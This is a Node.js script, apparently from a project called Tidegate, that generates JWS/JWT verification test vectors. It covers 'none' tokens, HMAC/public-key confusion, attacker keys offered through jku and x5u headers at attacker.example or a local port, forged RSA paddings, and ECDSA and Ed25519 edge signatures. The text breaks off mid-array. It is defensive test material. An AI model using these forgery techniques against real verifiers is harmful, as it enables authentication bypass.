// Makes protocol/jws/*.json: tokens that must be believed and tokens that must not.
//
//     node tests/js/jws.js
//
// Run it when a class of attack is missing here. The keys are made anew each time and their private
// halves are thrown away, so the files change as a whole. The tests only read the files.

import crypto from 'node:crypto'
import { mkdirSync, writeFileSync } from 'node:fs'

const folder = new URL('../../protocol/jws/', import.meta.url)
const NOW = 1800000000
const LASTS = 4102444800 // the year 2100
const SECRET = 'the-secret-of-the-tests-is-long-enough'
const WYCHEPROOF =
  'Tidegate; the classes of C2SP/wycheproof testvectors_v1/json_web_signature_test.json, with keys of our own'

const b64 = (data) => Buffer.from(data).toString('base64url')
const sha = (bits, data) => crypto.createHash(`sha${bits}`).update(data).digest()
const int = (buffer) => BigInt(`0x${Buffer.from(buffer).toString('hex') || '0'}`)
const fixed = (number, length) =>
  Buffer.from(number.toString(16).padStart(length * 2, '0'), 'hex')
const CLAIMS = JSON.stringify({ role: 'anon', exp: LASTS })

const pair = (type, options) => crypto.generateKeyPairSync(type, options)
const jwk = (key, more) => ({ ...key.export({ format: 'jwk' }), ...more })

const algorithms = {}
for (const bits of [256, 384, 512]) {
  algorithms[`HS${bits}`] = (key, data) => crypto.createHmac(`sha${bits}`, key).update(data).digest()
  algorithms[`RS${bits}`] = (key, data) => crypto.sign(`sha${bits}`, data, key)
  algorithms[`PS${bits}`] = (key, data) =>
    crypto.sign(`sha${bits}`, data, {
      key,
      padding: crypto.constants.RSA_PKCS1_PSS_PADDING,
      saltLength: bits / 8
    })
  algorithms[`ES${bits}`] = (key, data) =>
    crypto.sign(`sha${bits}`, data, { key, dsaEncoding: 'ieee-p1363' })
}
algorithms.EdDSA = (key, data) => crypto.sign(null, data, key)

/** header and claims may be objects or exact texts; sign may be a name, or a function of the input. */
function make(header, sign, key, claims = CLAIMS) {
  const text = (part) => (typeof part === 'string' || Buffer.isBuffer(part) ? part : JSON.stringify(part))
  const signed = `${b64(text(header))}.${b64(text(claims))}`
  const signature = typeof sign === 'function' ? sign(signed) : algorithms[sign](key, Buffer.from(signed))
  return `${signed}.${b64(signature)}`
}

function write(name, file) {
  const { tests, ...rest } = file
  const seen = new Set()
  for (const test of tests) {
    if (seen.has(test.name)) throw new Error(`${name}: ${test.name} twice`)
    seen.add(test.name)
  }
  const rows = tests.map((test) => `    ${JSON.stringify(test)}`).join(',\n')
  const head = JSON.stringify({ name, now: NOW, ...rest }, null, 2).replace(/\n}$/, '')
  mkdirSync(folder, { recursive: true })
  writeFileSync(new URL(`${name}.json`, folder), `${head},\n  "tests": [\n${rows}\n  ]\n}\n`)
  console.log(name, tests.length)
}

/** The classes that every algorithm has. */
function common(alg, sign, key, kid, stranger) {
  const header = { alg, kid }
  const valid = make(header, sign, key)
  const [h, p, s] = valid.split('.')
  const x = (part) => `${part[0] === 'X' ? 'Y' : 'X'}${part.slice(1)}`
  const bytes = Buffer.from(s, 'base64url')
  const changed = (at) => b64(Buffer.from(bytes.map((byte, i) => (i === at ? byte ^ 1 : byte))))
  const json = (more) => JSON.stringify({ payload: p, ...more })
  const spare = (part) => {
    // Bits of the last digit that carry nothing.
    const digits = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
    return part.slice(0, -1) + digits[digits.indexOf(part.at(-1)) ^ 1]
  }
  const unsigned = b64(JSON.stringify({ alg: 'none', kid }))
  const is = alg.startsWith('HS') ? 'signature' : 'no_signer'
  const tests = [
    ['accepts valid', valid, 'ok'],
    ['accepts whatever else a header says', make({ typ: 'JWT', cty: 'x', ...header, zip: 'DEF', unknown: [1] }, sign, key), 'ok'],
    ['rejects modified signature, first digit', `${h}.${p}.${x(s)}`, 'signature'],
    ['rejects modified signature, first byte', `${h}.${p}.${changed(0)}`, 'signature'],
    ['rejects modified signature, middle byte', `${h}.${p}.${changed(bytes.length >> 1)}`, 'signature'],
    ['rejects modified signature, last byte', `${h}.${p}.${changed(bytes.length - 1)}`, 'signature'],
    ['rejects missing signature', `${h}.${p}.`, 'signature'],
    ['rejects missing signature and separator', `${h}.${p}`, 'malformed'],
    ['rejects truncated signature', `${h}.${p}.${b64(bytes.subarray(0, -1))}`, 'signature'],
    ['rejects signature without its first byte', `${h}.${p}.${b64(bytes.subarray(1))}`, 'signature'],
    ['rejects half a signature', `${h}.${p}.${b64(bytes.subarray(0, bytes.length >> 1))}`, 'signature'],
    ['rejects signature with a byte more', `${h}.${p}.${b64(Buffer.concat([bytes, Buffer.from([0])]))}`, 'signature'],
    ['rejects signature with a byte before', `${h}.${p}.${b64(Buffer.concat([Buffer.from([0]), bytes]))}`, 'signature'],
    ['rejects signature of zeros', `${h}.${p}.${b64(Buffer.alloc(bytes.length))}`, 'signature'],
    ['rejects signature of ones', `${h}.${p}.${b64(Buffer.alloc(bytes.length, 255))}`, 'signature'],
    ['rejects modified payload', `${h}.${x(p)}.${s}`, 'signature'],
    ['rejects missing payload', `${h}..${s}`, 'signature'],
    ['rejects missing payload and separator', `${h}.${s}`, 'malformed'],
    ['rejects modified header: kid', `${b64(JSON.stringify({ alg, kid: `X${kid.slice(1)}` }))}.${p}.${s}`, is],
    ['rejects modified header: spaces', `${b64(JSON.stringify(header, null, 1))}.${p}.${s}`, 'signature'],
    ['rejects missing header', `.${p}.${s}`, 'malformed'],
    ['rejects missing header and separator', `${p}.${s}`, 'malformed'],
    ['rejects missing header and signature', `.${p}.`, 'malformed'],
    ['rejects missing header, signature and separators', p, 'malformed'],
    ['rejects empty string', '', 'malformed'],
    ['rejects separators alone', '..', 'malformed'],
    ['rejects extra empty component', `${valid}.`, 'malformed'],
    ['rejects extra component', `${valid}.foo`, 'malformed'],
    ['rejects extra component before', `foo.${valid}`, 'malformed'],
    ['rejects five components', `${valid}.foo.bar`, 'malformed'],
    ['rejects none algorithm and missing signature', `${unsigned}.${p}.`, 'no_signer'],
    ['rejects none algorithm and signature', `${unsigned}.${p}.${s}`, 'no_signer'],
    ['rejects valid JSON serialization', json({ signatures: [{ protected: h, header: { unknown: 'untrustworthy' }, signature: s }] }), 'malformed'],
    ['rejects flattened JSON serialization', json({ protected: h, signature: s }), 'malformed'],
    ['rejects padding in the header', `${h}=.${p}.${s}`, 'malformed'],
    ['rejects padding in the payload', `${h}.${p}=.${s}`, 'malformed'],
    ['rejects padding in the signature', `${valid}=`, 'malformed'],
    ['rejects two paddings', `${valid}==`, 'malformed'],
    ['rejects a space', `${h}.${p}. ${s}`, 'malformed'],
    ['rejects a line break', `${valid}\n`, 'malformed'],
    ['rejects a NUL', `${valid}\u0000`, 'malformed'],
    ['rejects digits of the other base64', `${h}.${p}.${s.slice(0, -2)}+/`, 'malformed'],
    ['rejects signature of a stranger', make(header, sign, stranger), 'signature'],
    ['rejects signature of another payload', `${h}.${b64(JSON.stringify({ role: 'service_role', exp: LASTS }))}.${s}`, 'signature'],
    ['rejects signature of the decoded parts', `${h}.${p}.${b64(algorithms[sign](key, Buffer.from(`${JSON.stringify(header)}.${CLAIMS}`)))}`, 'signature'],
    ['rejects signature of the payload alone', `${h}.${p}.${b64(algorithms[sign](key, Buffer.from(p)))}`, 'signature']
  ]
  if (bytes.length % 3 !== 0) tests.push(['rejects spare bits in the signature', `${h}.${p}.${spare(s)}`, 'malformed'])
  if (Buffer.from(p, 'base64url').length % 3 !== 0) tests.push(['rejects spare bits in the payload', `${h}.${spare(p)}.${s}`, 'malformed'])
  return tests.map(([name, jws, answer]) => ({ name, jws, answer }))
}

const rows = (tests) => tests.map(([name, jws, answer]) => ({ name, jws, answer }))

// The symmetric ones: by the project's secret, and by a key of a document.
for (const alg of ['HS256', 'HS384', 'HS512']) {
  const [key, stranger] = [crypto.randomBytes(64), crypto.randomBytes(64)]
  write(`${alg.toLowerCase()}_jwks`, {
    source: WYCHEPROOF,
    jwks: { keys: [{ kty: 'oct', kid: 'kid-oct', alg, k: b64(key) }] },
    jwt_secret: SECRET,
    tests: [
      ...common(alg, alg, key, 'kid-oct', stranger),
      ...rows([
        ['rejects the project secret where the kid names a key', make({ alg, kid: 'kid-oct' }, alg, SECRET), 'signature'],
        ['rejects the key without its kid', make({ alg }, alg, key), 'signature'],
        ...['HS256', 'HS384', 'HS512']
          .filter((other) => other !== alg)
          .map((other) => [`rejects ${other}, which is not the key's`, make({ alg: other, kid: 'kid-oct' }, other, key), 'no_signer'])
      ])
    ]
  })
  write(`${alg.toLowerCase()}_secret`, {
    source: WYCHEPROOF,
    jwt_secret: SECRET,
    tests: [
      ...common(alg, alg, SECRET, 'kid-of-no-document', stranger),
      ...rows([
        ['accepts a token without kid', make({ alg }, alg, SECRET), 'ok'],
        ['accepts a kid of null', make({ alg, kid: null }, alg, SECRET), 'ok'],
        ['rejects the secret in base64', make({ alg }, alg, b64(SECRET)), 'signature'],
        ['rejects a secret with a line break', make({ alg }, alg, `${SECRET}\n`), 'signature'],
        ['rejects a secret cut short', make({ alg }, alg, SECRET.slice(0, -1)), 'signature'],
        ['rejects a truncated hash', make({ alg }, (signed) => algorithms[alg](SECRET, signed).subarray(0, 16)), 'signature'],
        ['rejects the bare hash', make({ alg }, (signed) => sha(alg.slice(2), signed)), 'signature'],
        ...['HS256', 'HS384', 'HS512']
          .filter((other) => other !== alg)
          .map((other) => [`rejects a signature of ${other}`, make({ alg }, other, SECRET), 'signature'])
      ])
    ]
  })
}

// The public ones.
const publics = {}
for (const [alg, type, options] of [
  ['RS256', 'rsa', { modulusLength: 2048 }],
  ['RS384', 'rsa', { modulusLength: 2048 }],
  ['RS512', 'rsa', { modulusLength: 3072 }],
  ['ES256', 'ec', { namedCurve: 'P-256' }],
  ['ES384', 'ec', { namedCurve: 'P-384' }],
  ['EdDSA', 'ed25519', {}]
]) {
  const [own, stranger] = [pair(type, options), pair(type, options)]
  publics[alg] = { ...own, stranger }
}

const others = ['RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512', 'ES256', 'ES384', 'ES512', 'ES256K', 'EdDSA', 'Ed25519', 'Ed448', 'RSA-OAEP', 'ECDH-ES', 'A256GCM', 'dir']
for (const [alg, { publicKey, privateKey, stranger }] of Object.entries(publics)) {
  const kid = `kid-${alg.toLowerCase()}`
  const rsa = alg.startsWith('RS')
  const extra = []
  for (const other of others) {
    const isOwn = other === alg || (alg === 'EdDSA' && other === 'Ed25519')
    if (!isOwn) extra.push([`rejects the header's ${other}`, make({ alg: other, kid }, alg, privateKey), 'no_signer'])
  }
  if (rsa) {
    for (const other of ['RS256', 'RS384', 'RS512'].filter((it) => it !== alg)) {
      extra.push([`rejects ${other}, which is not the key's`, make({ alg: other, kid }, other, privateKey), 'no_signer'])
      extra.push([`rejects a signature of ${other}`, make({ alg, kid }, other, privateKey), 'signature'])
    }
    for (const bits of [256, 384, 512]) {
      extra.push([`rejects a signature of PS${bits}`, make({ alg, kid }, `PS${bits}`, privateKey), 'signature'])
      extra.push([`rejects PS${bits}`, make({ alg: `PS${bits}`, kid }, `PS${bits}`, privateKey), 'no_signer'])
    }
  }
  if (alg === 'EdDSA') extra.push(['accepts the name Ed25519', make({ alg: 'Ed25519', kid }, alg, privateKey), 'ok'])
  extra.push(['rejects a token without kid', make({ alg }, alg, privateKey), 'no_signer'])
  extra.push(['rejects a kid of null', make({ alg, kid: null }, alg, privateKey), 'no_signer'])
  extra.push(['rejects an empty kid', make({ alg, kid: '' }, alg, privateKey), 'no_signer'])
  extra.push(['rejects a kid that is a prefix', make({ alg, kid: kid.slice(0, -1) }, alg, privateKey), 'no_signer'])
  extra.push(['rejects a kid in capitals', make({ alg, kid: kid.toUpperCase() }, alg, privateKey), 'no_signer'])
  extra.push(['rejects a kid that is a number', make({ alg, kid: 1 }, alg, privateKey), 'malformed'])
  extra.push(['rejects a kid that is a list', make({ alg, kid: [kid] }, alg, privateKey), 'malformed'])
  for (const name of [alg.toLowerCase(), `${alg} `, ` ${alg}`, `${alg}\u0000`, `${alg[0].toLowerCase()}${alg.slice(1)}`]) {
    extra.push([`rejects the name ${JSON.stringify(name)}`, make({ alg: name, kid }, alg, privateKey), 'no_signer'])
  }
  // The attacker's own key, offered in every way that a header has.
  const offered = jwk(stranger.publicKey, { kid, use: 'sig', alg })
  const pem = stranger.publicKey.export({ type: 'spki', format: 'pem' })
  const x5c = pem.replace(/-----[^-]+-----|\n/g, '')
  for (const [name, more] of [
    ['jwk', { jwk: offered }],
    ['jwk with its private half', { jwk: jwk(stranger.privateKey, { kid }) }],
    ['jku', { jku: 'https://attacker.example/jwks.json' }],
    ['jku on this machine', { jku: 'http://127.0.0.1:9400/metrics' }],
    ['jku of a file', { jku: 'file:///dev/null' }],
    ['x5u', { x5u: 'https://attacker.example/chain.pem' }],
    ['x5c', { x5c: [x5c] }],
    ['x5t', { x5t: b64(sha(256, x5c).subarray(0, 20)), 'x5t#S256': b64(sha(256, x5c)) }],
    ['all of them', { jwk: offered, jku: 'https://attacker.example', x5u: 'https://attacker.example', x5c: [x5c] }]
  ]) {
    extra.push([`rejects an attacker's key by ${name}, under our kid`, make({ alg, kid, ...more }, alg, stranger.privateKey), 'signature'])
    extra.push([`rejects an attacker's key by ${name}, under a kid of its own`, make({ alg, kid: 'attacker', ...more }, alg, stranger.privateKey), 'no_signer'])
    extra.push([`ignores an attacker's key by ${name} beside our signature`, make({ alg, kid, ...more }, alg, privateKey), 'ok'])
  }
  write(alg.toLowerCase(), {
    source: WYCHEPROOF,
    jwks: { keys: [jwk(publicKey, { kid, use: 'sig', alg })] },
    jwt_secret: SECRET,
    tests: [...common(alg, alg, privateKey, kid, stranger.privateKey), ...rows(extra)]
  })
}

// Key confusion: the public key, in every form that it is published in, as the secret of an HMAC.
{
  const tests = []
  const keys = []
  for (const [alg, { publicKey }] of Object.entries(publics)) {
    const kid = `kid-${alg.toLowerCase()}`
    const published = jwk(publicKey, { kid, use: 'sig', alg })
    keys.push(published)
    const spki = publicKey.export({ type: 'spki', format: 'pem' })
    const forms = {
      'PEM': spki,
      'PEM without the last line break': spki.trimEnd(),
      'PEM with CR LF': spki.replace(/\n/g, '\r\n'),
      'the base64 of the PEM': spki.replace(/-----[^-]+-----|\n/g, ''),
      'DER': publicKey.export({ type: 'spki', format: 'der' }),
      'JWK': JSON.stringify(published),
      'JWK with sorted members': JSON.stringify(published, Object.keys(published).sort()),
      'JWK set': JSON.stringify({ keys: [published] }),
      'kid': kid,
      'no bytes': ''
    }
    if (alg.startsWith('RS')) {
      forms['PKCS #1 PEM'] = publicKey.export({ type: 'pkcs1', format: 'pem' })
      forms['PKCS #1 DER'] = publicKey.export({ type: 'pkcs1', format: 'der' })
      forms['modulus'] = Buffer.from(published.n, 'base64url')
      forms['modulus in base64url'] = published.n
      forms['modulus in hexadecimal'] = Buffer.from(published.n, 'base64url').toString('hex')
    } else {
      const [x, y] = [published.x, published.y ?? ''].map((part) => Buffer.from(part, 'base64url'))
      forms['coordinates'] = Buffer.concat([x, y])
      forms['x'] = x
      forms['x in base64url'] = published.x
      if (y.length > 0) forms['point'] = Buffer.concat([Buffer.from([4]), x, y])
    }
    for (const [form, bytes] of Object.entries(forms)) {
      for (const hmac of ['HS256', 'HS384', 'HS512']) {
        tests.push([`rejects ${hmac} with the ${alg} key as ${form}`, make({ alg: hmac, kid }, hmac, bytes), 'signature'])
      }
      tests.push([`rejects HS256 with the ${alg} key as ${form}, without kid`, make({ alg: 'HS256' }, 'HS256', bytes), 'signature'])
    }
  }
  const source = 'Tidegate; CVE-2015-9235 and its kin, jwt_tool -X k, Wycheproof rejectsSymmetryConfusionAttacks'
  write('key_confusion', { source, jwks: { keys }, jwt_secret: SECRET, without_secret: 'no_signer', tests: rows(tests) })
}

// PKCS #1 v1.5: every padding but the right one, made with the private key.
{
  const { publicKey, privateKey } = publics.RS256
  const n = int(Buffer.from(jwk(publicKey, {}).n, 'base64url'))
  const SIZE = 256
  const header = { alg: 'RS256', kid: 'kid-rs256' }
  const raw = (em) => {
    if (em.length !== SIZE || int(em) >= n) throw new Error('not an input')
    return crypto.privateEncrypt({ key: privateKey, padding: crypto.constants.RSA_NO_PADDING }, em)
  }
  const OIDS = {
    sha256: '608648016503040201', sha384: '608648016503040202', sha512: '608648016503040203', sha224: '608648016503040204',
    sha1: '2b0e03021a', md5: '2a864886f70d0205', rsa: '2a864886f70d010101', 'sha256WithRSA': '2a864886f70d01010b'
  }
  const tlv = (tag, value, length) => {
    const bytes = Buffer.from(value)
    const size = length ?? (bytes.length < 128 ? [bytes.length] : [0x81, bytes.length])
    return Buffer.concat([Buffer.from([tag, ...size]), bytes])
  }
  const hex = (text) => Buffer.from(text, 'hex')
  const NULL = hex('0500')
  const oid = (name) => tlv(6, hex(OIDS[name]))
  const info = (digest, { algorithm = oid('sha256'), parameters = NULL, after = '', inner = '' } = {}) =>
    tlv(0x30, Buffer.concat([tlv(0x30, Buffer.concat([algorithm, parameters, hex(inner)])), tlv(4, digest), hex(after)]))
  const padded = (content, { first = 0, type = 1, fill = 255, zero = true } = {}) => {
    const ps = SIZE - content.length - (zero ? 3 : 2)
    return Buffer.concat([Buffer.from([first, type]), Buffer.alloc(ps, fill), Buffer.alloc(zero ? 1 : 0), content])
  }
  const tests = []
  const add = (name, em, answer = 'signature') =>
    tests.push([name, make(header, (signed) => raw(em(sha(256, signed), signed))), answer])
  add('accepts the right padding', (digest) => padded(info(digest)), 'ok')
  for (const [name, options] of Object.entries({
    'no NULL': { parameters: Buffer.alloc(0) },
    'NULL twice': { parameters: hex('05000500') },
    'NULL of a byte': { parameters: hex('050100') },
    'NULL in long form': { parameters: hex('058100') },
    'an empty sequence for NULL': { parameters: hex('3000') },
    'an empty octet string for NULL': { parameters: hex('0400') },
    'garbage after NULL': { inner: '020100' },
    'garbage after the digest': { after: '020100' },
    'a NULL after the digest': { after: '0500' },
    'much garbage after the digest': { after: '04'.padEnd(2, '0') + '40' + '00'.repeat(64) },
    'the identifier in long form': { algorithm: tlv(6, hex(OIDS.sha256), [0x81, 9]) },
    'the identifier in longer form': { algorithm: tlv(6, hex(OIDS.sha256), [0x82, 0, 9]) },
    'the identifier as octets': { algorithm: tlv(4, hex(OIDS.sha256)) },
    'an identifier cut short': { algorithm: tlv(6, hex(OIDS.sha256).subarray(0, -1)) },
    'a longer identifier': { algorithm: tlv(6, hex(`${OIDS.sha256}00`)) },
    'no identifier': { algorithm: Buffer.alloc(0) }
  })) add(`rejects ${name}`, (digest) => padded(info(digest, options)))
  for (const name of Object.keys(OIDS).filter((it) => it !== 'sha256')) {
    add(`rejects the identifier of ${name} with the digest of SHA-256`, (digest) => padded(info(digest, { algorithm: oid(name) })))
  }
  for (const bits of [1, 224, 384, 512]) {
    add(`rejects the digest of SHA-${bits} under its own identifier`, (_, signed) => padded(info(sha(bits, signed), { algorithm: oid(`sha${bits}`) })))
    add(`rejects the digest of SHA-${bits} under the identifier of SHA-256`, (_, signed) => padded(info(sha(bits, signed))))
  }
  // Each length in each longer form, and none.
  const forms = (tag, value) => ({
    'long form': tlv(tag, value, [0x81, value.length]),
    'longer form': tlv(tag, value, [0x82, 0, value.length]),
    'longest form': tlv(tag, value, [0x84, 0, 0, 0, value.length]),
    'five bytes of form': tlv(tag, value, [0x85, 1, 0, 0, 0, value.length]),
    'indefinite form': Buffer.concat([tlv(tag, value, [0x80]), Buffer.from([0, 0])]),
    'indefinite form without an end': tlv(tag, value, [0x80]),
    'a length too great by one': tlv(tag, value, [value.length + 1]),
    'a length too small by one': tlv(tag, value, [value.length - 1]),
    'no length': tlv(tag, value, [0])
  })
  const inner = () => tlv(0x30, Buffer.concat([oid('sha256'), NULL]))
  for (const form of Object.keys(forms(4, Buffer.alloc(32)))) {
    add(`rejects the digest in ${form}`, (digest) => padded(tlv(0x30, Buffer.concat([inner(), forms(4, digest)[form]]))))
    add(`rejects the algorithm in ${form}`, (digest) => padded(tlv(0x30, Buffer.concat([forms(0x30, Buffer.concat([oid('sha256'), NULL]))[form], tlv(4, digest)]))))
    add(`rejects the whole in ${form}`, (digest) => padded(forms(0x30, Buffer.concat([inner(), tlv(4, digest)]))[form]))
  }
  // Other tags in the place of each.
  for (const tag of [0x00, 0x02, 0x03, 0x05, 0x06, 0x0c, 0x10, 0x20, 0x24, 0x31, 0x80, 0xa0]) {
    add(`rejects the tag ${tag} for the digest`, (digest) => padded(tlv(0x30, Buffer.concat([inner(), tlv(tag, digest)]))))
    add(`rejects the tag ${tag} for the whole`, (digest) => padded(tlv(tag, Buffer.concat([inner(), tlv(4, digest)]))))
    add(`rejects the tag ${tag} for the algorithm`, (digest) => padded(tlv(0x30, Buffer.concat([tlv(tag, Buffer.concat([oid('sha256'), NULL])), tlv(4, digest)]))))
  }
  // Each byte of the prefix and of the digest, changed.
  for (let at = 0; at < 51; at++) {
    for (const bit of at < 19 ? [1, 0x20, 0x80] : [1]) {
      add(`rejects byte ${at} of the digest's frame changed by ${bit}`, (digest) => {
        const content = info(digest)
        content[at] ^= bit
        return padded(content)
      })
    }
  }
  // The padding itself.
  for (const type of [0, 2, 3, 255]) add(`rejects block type ${type}`, (digest) => padded(info(digest), { type }))
  for (const first of [1, 2, 0x7f]) add(`rejects the first byte ${first}`, (digest) => padded(info(digest), { first }))
  for (const fill of [0, 1, 0xfe, 0x7f]) add(`rejects a padding of ${fill}`, (digest) => padded(info(digest), { fill }))
  add('rejects a padding without its end', (digest) => padded(info(digest), { zero: false }))
  for (const at of [2, 3, 9, 10, 11, 50, 100, 150, 200, 202]) {
    for (const byte of [0, 1, 0xfe]) {
      add(`rejects ${byte} at ${at} of the padding`, (digest) => {
        const em = padded(info(digest))
        em[at] = byte
        return em
      })
    }
  }
  for (const length of [0, 1, 7, 8, 9, 50, 100, 200]) {
    const short = (content) => Buffer.concat([Buffer.from([0, 1]), Buffer.alloc(length, 255), Buffer.from([0]), content])
    const full = (em, fill) => Buffer.concat([em, Buffer.alloc(Math.max(0, SIZE - em.length), fill)]).subarray(0, SIZE)
    add(`rejects a padding of ${length} bytes and zeros behind the digest`, (digest) => full(short(info(digest)), 0))
    add(`rejects a padding of ${length} bytes and ones behind the digest`, (digest) => full(short(info(digest)), 255))
    add(`rejects a padding of ${length} bytes and zeros before the digest`, (digest) => {
      const content = info(digest)
      return Buffer.concat([Buffer.from([0, 1]), Buffer.alloc(length, 255), Buffer.alloc(SIZE - 2 - length - content.length), content])
    })
  }
  add('rejects the bare digest', (digest) => padded(digest))
  add('rejects the digest without a frame or padding', (digest) => Buffer.concat([Buffer.alloc(SIZE - 32), digest]))
  add('rejects the digest cut by one byte', (digest) => padded(info(digest.subarray(0, 31))))
  add('rejects the digest with one byte more', (digest) => padded(info(Buffer.concat([digest, Buffer.from([0])]))))
  add('rejects no digest', () => padded(info(Buffer.alloc(0))))
  add('rejects the digest twice', (digest) => padded(info(Buffer.concat([digest, digest]))))
  add('rejects the digest reversed', (digest) => padded(info(Buffer.from(digest).reverse())))
  add('rejects the digest in hexadecimal', (digest) => padded(info(Buffer.from(digest.toString('hex')))))
  add('rejects an empty frame', () => padded(hex('3000')))
  add('rejects padding alone', () => padded(Buffer.alloc(0)))
  // Numbers that are no signature.
  const number = (name, value, answer = 'signature') => tests.push([name, make(header, value), answer])
  number('rejects the number 0', () => fixed(0n, SIZE))
  number('rejects the number 1', () => fixed(1n, SIZE))
  number('rejects the modulus less one', () => fixed(n - 1n, SIZE))
  number('rejects the modulus', () => fixed(n, SIZE))
  number('rejects the modulus and one', () => fixed(n + 1n, SIZE))
  number('rejects the greatest number', () => Buffer.alloc(SIZE, 255))
  const right = (signed) => raw(padded(info(sha(256, signed))))
  number('rejects the signature and the modulus', (signed) => fixed(int(right(signed)) + n, SIZE + 1))
  number('rejects the modulus less the signature', (signed) => fixed(n - int(right(signed)), SIZE))
  number('rejects the signature reversed', (signed) => Buffer.from(right(signed)).reverse())
  number('rejects a leading zero', (signed) => Buffer.concat([Buffer.from([0]), right(signed)]))
  number('rejects the padded digest itself', (signed) => padded(info(sha(256, signed))))
  write('rs256_padding', {
    source: 'Tidegate; Wycheproof "ModifiedPadding", Bleichenbacher 2006 and its variants',
    jwks: { keys: [jwk(publicKey, { kid: 'kid-rs256', alg: 'RS256' })] },
    tests: rows(tests)
  })
}

// ECDSA: numbers at the edges, other forms.
const ORDERS = {
  ES256: 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n,
  ES384: 0xffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973n
}
const PRIMES = {
  ES256: 0xffffffff00000001000000000000000000000000ffffffffffffffffffffffffn,
  ES384: (1n << 384n) - (1n << 128n) - (1n << 96n) + (1n << 32n) - 1n
}
for (const alg of ['ES256', 'ES384']) {
  const { publicKey, privateKey } = publics[alg]
  const [n, p, kid] = [ORDERS[alg], PRIMES[alg], `kid-${alg.toLowerCase()}`]
  const size = alg === 'ES256' ? 32 : 48
  const header = { alg, kid }
  const both = (r, s) => () => Buffer.concat([fixed(r, size), fixed(s, size)])
  const tests = [['accepts valid', make(header, alg, privateKey), 'ok']]
  const edges = { '0': 0n, '1': 1n, '2': 2n, 'n - 1': n - 1n, 'n': n, 'n + 1': n + 1n, 'p - 1': p - 1n, 'p': p, 'p + 1': p + 1n, 'the greatest': (1n << BigInt(size * 8)) - 1n }
  for (const [a, r] of Object.entries(edges)) {
    for (const [b, s] of Object.entries(edges)) {
      tests.push([`rejects r = ${a}, s = ${b}${a === '0' && b === '0' ? ' (CVE-2022-21449)' : ''}`, make(header, both(r, s)), 'signature'])
    }
  }
  const signature = (signed) => algorithms[alg](privateKey, Buffer.from(signed))
  const parts = (signed) => {
    const bytes = signature(signed)
    return [int(bytes.subarray(0, size)), int(bytes.subarray(size))]
  }
  const from = (name, change, answer = 'signature') =>
    tests.push([name, make(header, (signed) => change(...parts(signed), signed)), answer])
  const bytes = (r, s) => Buffer.concat([fixed(r, size), fixed(s, size)])
  from('accepts n - s, which is as true as s', (r, s) => bytes(r, n - s), 'ok')
  for (const [name, edge] of Object.entries(edges)) {
    from(`rejects the right r with s = ${name}`, (r) => bytes(r, edge))
    from(`rejects the right s with r = ${name}`, (_, s) => bytes(edge, s))
  }
  from('rejects r and s exchanged', (r, s) => bytes(s, r))
  from('rejects n - r', (r, s) => bytes(n - r, s))
  from('rejects r twice', (r) => bytes(r, r))
  from('rejects s twice', (_, s) => bytes(s, s))
  from('rejects r alone', (r) => fixed(r, size))
  from('rejects both bytes reversed', (r, s) => Buffer.concat([fixed(r, size).reverse(), fixed(s, size).reverse()]))
  from('rejects leading zeros', (r, s) => Buffer.concat([fixed(r, size + 1), fixed(s, size + 1)]))
  from('rejects r + n in more bytes', (r, s) => Buffer.concat([fixed(r + n, size + 1), fixed(s, size + 1)]))
  from('rejects s + n in more bytes', (r, s) => Buffer.concat([fixed(r, size + 1), fixed(s + n, size + 1)]))
  from('rejects hexadecimal', (r, s) => Buffer.from(bytes(r, s).toString('hex')))
  const der = (signed) => crypto.sign(`sha${alg.slice(2)}`, Buffer.from(signed), privateKey)
  tests.push(['rejects DER', make(header, der), 'signature'])
  tests.push(['rejects DER of zeros', make(header, () => Buffer.from('3006020100020100', 'hex')), 'signature'])
  for (const bits of [1, 256, 384, 512].filter((it) => `${it}` !== alg.slice(2))) {
    const other = (signed) => crypto.sign(`sha${bits}`, Buffer.from(signed), { key: privateKey, dsaEncoding: 'ieee-p1363' })
    tests.push([`rejects SHA-${bits}`, make(header, other), 'signature'])
  }
  for (const namedCurve of ['P-256', 'P-384', 'P-521', 'secp256k1']) {
    const { privateKey: stranger } = pair('ec', { namedCurve })
    const other = (signed) => crypto.sign(`sha${alg.slice(2)}`, Buffer.from(signed), { key: stranger, dsaEncoding: 'ieee-p1363' })
    tests.push([`rejects a stranger's key on ${namedCurve}`, make(header, other), 'signature'])
  }
  const bare = jwk(publicKey, { kid })
  tests.push(['rejects a point that is not on the curve', make({ alg, kid: 'off-the-curve' }, alg, privateKey), 'signature'])
  tests.push(['rejects the point at nothing', make({ alg, kid: 'nothing' }, both(0n, 0n)), 'signature'])
  const off = { ...bare, kid: 'off-the-curve', y: b64(fixed(int(Buffer.from(bare.y, 'base64url')) ^ 1n, size)) }
  const zero = b64(Buffer.alloc(size))
  write(`${alg.toLowerCase()}_numbers`, {
    source: 'Tidegate; Wycheproof ecdsa edge cases, CVE-2022-21449, jwt_tool -X p',
    jwks: { keys: [bare, off, { ...bare, kid: 'nothing', x: zero, y: zero }] },
    tests: rows(tests)
  })
}

// Ed25519: malleability and small orders.
{
  const { publicKey, privateKey } = publics.EdDSA
  const L = (1n << 252n) + 27742317777372353535851937790883648493n
  const little = (number) => fixed(number, 32).reverse()
  const header = { alg: 'EdDSA', kid: 'kid-eddsa' }
  const sign = (signed) => algorithms.EdDSA(privateKey, Buffer.from(signed))
  const s = (bytes) => int(Buffer.from(bytes.subarray(32)).reverse())
  const tests = [['accepts valid', make(header, 'EdDSA', privateKey), 'ok']]
  for (const [name, change] of Object.entries({
    'S + L': (bytes) => Buffer.concat([bytes.subarray(0, 32), little(s(bytes) + L)]),
    'S + 2 L': (bytes) => Buffer.concat([bytes.subarray(0, 32), little(s(bytes) + 2n * L)]),
    'L - S': (bytes) => Buffer.concat([bytes.subarray(0, 32), little(L - s(bytes))]),
    'S = 0': (bytes) => Buffer.concat([bytes.subarray(0, 32), little(0n)]),
    'S = 1': (bytes) => Buffer.concat([bytes.subarray(0, 32), little(1n)]),
    'S = L': (bytes) => Buffer.concat([bytes.subarray(0, 32), little(L)]),
    'the greatest S': (bytes) => Buffer.concat([bytes.subarray(0, 32), Buffer.alloc(32, 255)]),
    'R = 0': (bytes) => Buffer.concat([Buffer.alloc(32), bytes.subarray(32)]),
    'R = 1': (bytes) => Buffer.concat([little(1n), bytes.subarray(32)]),
